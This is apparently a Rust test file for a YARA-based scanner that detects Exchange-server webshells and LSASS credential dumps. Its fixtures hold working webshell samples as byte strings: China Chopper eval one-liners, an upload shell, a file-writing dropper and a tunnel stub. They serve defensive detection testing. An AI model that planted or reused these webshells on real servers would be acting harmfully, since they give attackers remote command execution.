//! The yara-x adapter: built-in rules over samples of every family (written here from the public
//! descriptions), externals as signature-base uses them, broken rule files reported while the
//! others run, the compiled-rule cache, and timeouts reported as coverage gaps.

use exsweep_core::model::{Category, Finding, Severity};
use exsweep_core::source::{Entry, Locator, LogicalPath};
use exsweep_core::sweep::{FileCheck, FileHashes, SweptFile};
use exsweep_core::time::Timestamp;
use exsweep_yara::{LoadOptions, ScanSettings, YaraCheck, YaraRules};
use std::time::Duration;

fn check_bytes(check: &YaraCheck, windows_path: &str, data: &[u8]) -> Vec<Finding> {
    let parts: Vec<String> = windows_path[3..].split('\\').map(|s| s.to_lowercase()).collect();
    let lp = LogicalPath { drive: Some('c'), parts, anchored: true };
    let rel = windows_path[3..].replace('\\', "/");
    let entry = Entry {
        rel_path: rel.clone(),
        size: data.len() as u64,
        mtime: Timestamp::parse("2021-03-03T06:49:58Z"),
        created: None,
        accessed: None,
        locator: Locator::Fs(rel.clone().into()),
    };
    let hashes = FileHashes::of(data);
    let file = SweptFile {
        source: 0,
        path: &rel,
        logical: &lp,
        windows_path,
        located: None,
        entry: &entry,
        hashes: &hashes,
        data,
        window_start: Timestamp::parse("2021-01-01").unwrap(),
        folder_mtime: None,
    };
    let mut out = Vec::new();
    check.check(&file, &mut out);
    out
}

fn builtin() -> YaraCheck {
    let rules = YaraRules::load(&LoadOptions::default());
    assert!(rules.problems.is_empty(), "built-in rules must compile: {:?}", rules.problems);
    YaraCheck::new(rules, ScanSettings::default())
}

fn ids(found: &[Finding]) -> Vec<&str> {
    found.iter().map(|f| f.rule_id.as_str()).collect()
}

const OAB_DUMP: &str = "Name                            : OAB (Default Web Site)\r\n\
PollInterval                    : 480\r\n\
OfflineAddressBooks             : \r\n\
RequireSSL                      : True\r\n\
Path                            : C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB\r\n\
ExtendedProtectionTokenChecking : None\r\n\
AdminDisplayVersion             : Version 15.1 (Build 2106.2)\r\n\
InternalUrl                     : https://mail.contoso.local/OAB\r\n\
InternalAuthenticationMethods   : WindowsIntegrated\r\n\
ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>\r\n\
ExternalAuthenticationMethods   : WindowsIntegrated\r\n";

#[test]
fn builtin_rules_find_every_family() {
    let check = builtin();
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            r"C:\inetpub\wwwroot\aspnet_client\system_web\Xk2pQr7a.aspx",
            br#"<script language="JScript" runat="server">function Page_Load(){eval(Request["orange"],"unsafe");}</script>"#.to_vec(),
            "EXS-YARA-CHOPPER",
        ),
        (
            r"C:\inetpub\wwwroot\aspnet_client\discover.aspx",
            br#"<%@ Page Language="Jscript"%><%eval (Request.Item["discover"],"unsafe");%>"#.to_vec(),
            "EXS-YARA-CHOPPER",
        ),
        (
            r"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\RedirSuiteServerProxy.aspx",
            OAB_DUMP.as_bytes().to_vec(),
            "EXS-YARA-OAB-DUMP",
        ),
        (
            r"C:\inetpub\wwwroot\aspnet_client\sc.aspx",
            br#"<%@ Page Language="C#" %><% if (System.IO.File.Exists(@"c:\program files (x86)\fireeye\xagt.exe")) { Response.Write("3"); } else { Response.Write("0"); } %>"#.to_vec(),
            "EXS-YARA-SECCHECKER",
        ),
        (
            r"C:\inetpub\wwwroot\aspnet_client\x.aspx",
            br#"<%@ Page Language="C#" %><% HttpCookie c = Request.Cookies["fqrspt"]; string k = "ZN2aDAB4rXsszEvCLrzgcvQ4oi5J1TuiRULlQbYwldE="; %>"#.to_vec(),
            "EXS-YARA-SPORTSBALL",
        ),
        (
            r"C:\inetpub\wwwroot\aspnet_client\tunnel.aspx",
            br#"<%@ Page Language="C#" EnableSessionState="True"%><%@ Import Namespace="System.Net.Sockets" %><% String cmd = Request.Headers.Get("X-CMD"); if (cmd == "CONNECT") { String target = Request.Headers.Get("X-TARGET"); Response.AddHeader("X-STATUS", "OK"); } else if (cmd == "DISCONNECT") {} else if (cmd == "FORWARD") {} else if (cmd == "READ") {} %>"#.to_vec(),
            "EXS-YARA-REGEORG",
        ),
        (
            r"C:\inetpub\wwwroot\aspnet_client\up.aspx",
            br#"<%@ Page Language="C#" %><%@ Import Namespace="System.IO" %><script runat="server">protected void Page_Load(object s, EventArgs e){ HttpPostedFile thisFile = Request.Files[0];thisFile.SaveAs(Path.Combine(Server.MapPath("."), thisFile.FileName)); }</script>"#.to_vec(),
            "EXS-YARA-SIMPLESEESHARP",
        ),
        (
            r"C:\inetpub\wwwroot\aspnet_client\w.aspx",
            br#"<%@ Page Language="C#" %><% System.IO.StreamWriter sw = new System.IO.StreamWriter(Request.Form["p"] , false, Encoding.Default);sw.Write(Request.Form["f"]);sw.Close(); %>"#.to_vec(),
            "EXS-YARA-ASPX-DROPPER",
        ),
    ];
    for (path, data, want) in &cases {
        let found = check_bytes(&check, path, data);
        assert!(ids(&found).contains(want), "{path}: expected {want}, got {:?}", ids(&found));
        let f = found.iter().find(|f| f.rule_id == *want).unwrap();
        assert_eq!(f.rule_source, "yara");
        assert_eq!(f.severity, Severity::Critical);
        assert_eq!(f.category, Category::Webshell);
        assert!(f.actors.iter().any(|a| a == "HAFNIUM"), "{want}: actors {:?}", f.actors);
        assert_eq!(f.sha256.as_deref(), Some(FileHashes::of(data).sha256_hex().as_str()));
        assert!(f.evidence.contains('@'), "evidence names the matched pattern: {}", f.evidence);
        assert_eq!(f.extra["yara_file"], "exsweep:rules/webshells.yar");
    }
}

fn minidump(modules: &[&str]) -> Vec<u8> {
    let mut b = b"MDMP".to_vec();
    b.extend_from_slice(&0xA793u16.to_le_bytes());
    b.extend_from_slice(&[0u8; 26]);
    for m in modules {
        let path = format!(r"C:\Windows\System32\{m}");
        for u in path.encode_utf16() {
            b.extend_from_slice(&u.to_le_bytes());
        }
        b.extend_from_slice(&[0, 0]);
    }
    b.resize(4096, 0);
    b
}

#[test]
fn lsass_dumps_are_told_from_other_minidumps() {
    let check = builtin();
    let lsass = minidump(&["lsass.exe", "lsasrv.dll", "msv1_0.dll", "wdigest.dll", "kerberos.dll"]);
    let found = check_bytes(&check, r"C:\Windows\Temp\lsass.dmp", &lsass);
    assert_eq!(ids(&found), ["EXS-YARA-LSASS-MINIDUMP"]);
    assert_eq!(found[0].category, Category::PostExploitation);
    assert_eq!(found[0].attack, ["T1003.001"]);
    // A crash dump of another process is not credential theft.
    let other = minidump(&["w3wp.exe", "kernel32.dll", "clr.dll"]);
    assert!(check_bytes(&check, r"C:\Windows\Temp\w3wp.dmp", &other).is_empty());
}

#[test]
fn legitimate_exchange_pages_raise_nothing() {
    let check = builtin();
    let logon = br#"<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">
<html><head><script type="text/javascript" src="<%=InlineJavascript("flogon.js")%>"></script></head>
<body><form action="/owa/auth.owa" method="POST" name="logonForm"><input id="username" name="username" type="text"></form></body></html>"#;
    assert!(
        check_bytes(
            &check,
            r"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\logon.aspx",
            logon
        )
        .is_empty()
    );
    // A legitimate OAB virtual directory listing (an admin's Get-OabVirtualDirectory | fl) without a script.
    let clean = OAB_DUMP.replace(
        r#"http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>"#,
        "https://mail.contoso.com/OAB",
    );
    assert!(check_bytes(&check, r"C:\Users\admin\Documents\oab.txt", clean.as_bytes()).is_empty());
}

#[test]
fn user_rules_read_loki_externals_and_a_broken_file_does_not_stop_the_others() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("a_good.yar"),
        r#"rule Path_Rule { meta: score = 85 description = "aspx in aspnet_client" condition: filepath contains "\\aspnet_client" and extension == ".aspx" and filename matches /^[a-z]{2}\.aspx$/ }
rule Type_Rule { condition: filetype == "EXE" }"#,
    )
    .unwrap();
    std::fs::write(dir.path().join("b_broken.yar"), "rule Broken {\n  strings: $a = \"x\"\n  condition: $a and\n}\n")
        .unwrap();
    std::fs::write(
        dir.path().join("c_good.yara"),
        "rule Same_Name_Elsewhere { strings: $m = \"marker-123\" condition: $m }",
    )
    .unwrap();
    std::fs::write(dir.path().join("notes.txt"), "not a rule file").unwrap();
    let rules = YaraRules::load(&LoadOptions { builtin: false, paths: vec![dir.path().into()], ..Default::default() });
    assert_eq!(rules.stats.files, 3, "only .yar/.yara files of a folder are read");
    assert_eq!(rules.stats.compiled, 2);
    assert_eq!(rules.problems.len(), 1);
    let p = &rules.problems[0];
    assert!(p.path.ends_with("b_broken.yar"), "{p:?}");
    assert!(p.reason.contains("b_broken.yar:4:") || p.reason.contains("b_broken.yar:3:"), "line of the error: {p:?}");
    let check = YaraCheck::new(rules, ScanSettings::default());
    let found = check_bytes(&check, r"C:\inetpub\wwwroot\aspnet_client\ab.aspx", b"marker-123");
    assert_eq!(ids(&found), ["YARA:Path_Rule", "YARA:Same_Name_Elsewhere"]);
    assert_eq!(found[0].severity, Severity::High, "score 85");
    assert_eq!(found[0].extra["yara_score"], 85);
    assert!(check_bytes(&check, r"C:\inetpub\wwwroot\other\ab.aspx", b"x").is_empty(), "filepath external");
    assert_eq!(ids(&check_bytes(&check, r"C:\ProgramData\t.bin", b"MZ\x90\0")), ["YARA:Type_Rule"]);
}

#[test]
fn compiled_rules_are_cached_and_a_change_recompiles() {
    let rules_dir = tempfile::tempdir().unwrap();
    let cache = tempfile::tempdir().unwrap();
    let f = rules_dir.path().join("r.yar");
    std::fs::write(&f, "rule One { strings: $a = \"one\" condition: $a }").unwrap();
    std::fs::write(rules_dir.path().join("bad.yar"), "rule {").unwrap();
    let opts = LoadOptions {
        builtin: true,
        paths: vec![rules_dir.path().into()],
        cache_dir: Some(cache.path().into()),
        ..Default::default()
    };
    let first = YaraRules::load(&opts);
    assert!(!first.stats.from_cache);
    let second = YaraRules::load(&opts);
    assert!(second.stats.from_cache);
    assert_eq!(first.len(), second.len());
    assert_eq!(first.problems, second.problems, "compile problems are kept with the cache");
    let check = YaraCheck::new(second, ScanSettings::default());
    assert_eq!(ids(&check_bytes(&check, r"C:\ProgramData\x.txt", b"one")), ["YARA:One"]);
    std::fs::write(&f, "rule Two { strings: $a = \"two\" condition: $a }").unwrap();
    let third = YaraRules::load(&opts);
    assert!(!third.stats.from_cache, "a changed rule file is recompiled");
    let check = YaraCheck::new(third, ScanSettings::default());
    assert_eq!(ids(&check_bytes(&check, r"C:\ProgramData\x.txt", b"one two")), ["YARA:Two"]);
    // A corrupt cache file is ignored.
    for e in std::fs::read_dir(cache.path()).unwrap() {
        let p = e.unwrap().path();
        if p.extension().is_some_and(|x| x == "bin") {
            std::fs::write(&p, b"garbage").unwrap();
        }
    }
    let fourth = YaraRules::load(&opts);
    assert!(!fourth.stats.from_cache);
    assert_eq!(fourth.len(), 1 + YaraRules::load(&LoadOptions::default()).len());
}

#[test]
fn a_scan_past_its_timeout_is_reported_not_silent() {
    let rules = YaraRules::load(&LoadOptions {
        builtin: false,
        extra: vec![(
            "slow.yar".into(),
            "rule Slow { condition: for all i in (0..filesize - 1) : (for all j in (0..filesize - 1) : (uint8(j) == uint8(i))) }".into(),
        )],
        ..Default::default()
    });
    assert!(rules.problems.is_empty(), "{:?}", rules.problems);
    let check = YaraCheck::new(rules, ScanSettings { timeout: Duration::from_secs(1), max_matches_per_pattern: 10 });
    let data = vec![b'a'; 200_000];
    let started = std::time::Instant::now();
    let found = check_bytes(&check, r"C:\ProgramData\big.bin", &data);
    assert!(started.elapsed() < Duration::from_secs(30));
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].rule_id, "EXS-COV-FILE");
    assert!(found[0].title.contains("timed out"), "{}", found[0].title);
}
